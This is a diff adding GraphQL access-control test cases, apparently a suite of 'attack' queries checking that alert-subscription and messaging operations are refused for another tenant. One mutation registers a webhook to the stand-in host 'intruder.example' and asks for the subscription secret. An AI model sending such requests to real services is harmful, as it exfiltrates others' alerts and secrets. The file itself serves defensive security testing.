@@ -165,6 +165,31 @@ export const graphqlOperations = (aim: Aim): Attacks<GraphqlAttack> => {
     ],
     ...deedsByGraphql(aim),
     alertQuality: [{ query: '{ alertQuality { rules { rule fired } } }' }],
+    alertSubscriptions: [
+      { query: `{ alertSubscriptions(recipient: "${aim.code}") { id address createdBy } }` },
+      { query: `{ alertSubscriptions(recipient: "dfe") { id address } }` },
+    ],
+    undeliveredMessages: [{ query: '{ undeliveredMessages { id recipient detail } }' }],
+    addAlertSubscription: [
+      {
+        query: `mutation { addAlertSubscription(input: { recipient: "${aim.code}", channel: WEBHOOK, address: "https://intruder.example/" }) { ... on AlertSubscriptionAdded { secret } ... on Refused { code } } }`,
+      },
+    ],
+    endAlertSubscription: [
+      {
+        query: `mutation { endAlertSubscription(id: "${aim.subscriptionId}") { ... on AlertSubscription { id address } ... on Refused { code } } }`,
+      },
+    ],
+    sendTestMessage: [
+      {
+        query: `mutation { sendTestMessage(recipient: "${aim.code}") { ... on MessageSent { id } ... on Refused { code } } }`,
+      },
+    ],
+    sendMessageAgain: [
+      {
+        query: `mutation { sendMessageAgain(id: "${aim.deadMessageId}") { ... on MessageSent { id } ... on Refused { code } } }`,
+      },
+    ],
     acknowledgeAlert: [
       {
         query: `mutation { acknowledgeAlert(id: "${aim.alertId}") { ... on Alert { id why } ... on Refused { code } } }`,
